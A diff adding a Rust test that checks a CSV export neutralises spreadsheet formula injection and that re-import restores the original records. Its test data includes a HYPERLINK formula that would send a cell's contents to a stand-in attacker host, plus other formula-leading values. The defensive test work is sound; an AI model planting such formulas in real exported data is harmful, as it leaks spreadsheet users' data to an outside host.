@@ -124,3 +124,20 @@ fn places_with_coordinates() {
     let prague = find(&shelf, "geonames#3067696");
     assert_eq!((prague.text("place"), prague.text("cell")), ("Prague", "u2fkb"));
 }
+
+#[test]
+fn a_spreadsheet_computes_nothing_that_others_wrote_and_the_import_reads_it_as_they_did() {
+    let shelf = Shelf::default();
+    let titles = ["=HYPERLINK(\"http://eve\"&A1)", "+1", "'-1", "@SUM(A1)", "'tis", "Guitar"];
+    let offers = titles.map(|title| (None, Content::new(RecordKind::OFFER).and_then(|offer| offer.with("title", title)).unwrap()));
+    shelf.save_all(offers.to_vec()).unwrap();
+    let (csv, _) = export_of(&shelf);
+    let rows = csv::Reader::from_reader(&csv[..]).into_records().collect::<Result<Vec<_>, _>>().unwrap();
+    assert_eq!(rows.len(), titles.len());
+    let cells = || rows.iter().flatten();
+    assert!(cells().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{rows:?}");
+    assert!(cells().any(|cell| cell == "'=HYPERLINK(\"http://eve\"&A1)"));
+    let back = Shelf { city: 1, ..Shelf::default() };
+    import(&back, read_table(&csv, &Mapping::default(), "export.csv").unwrap());
+    assert_same(&back, &shelf);
+}
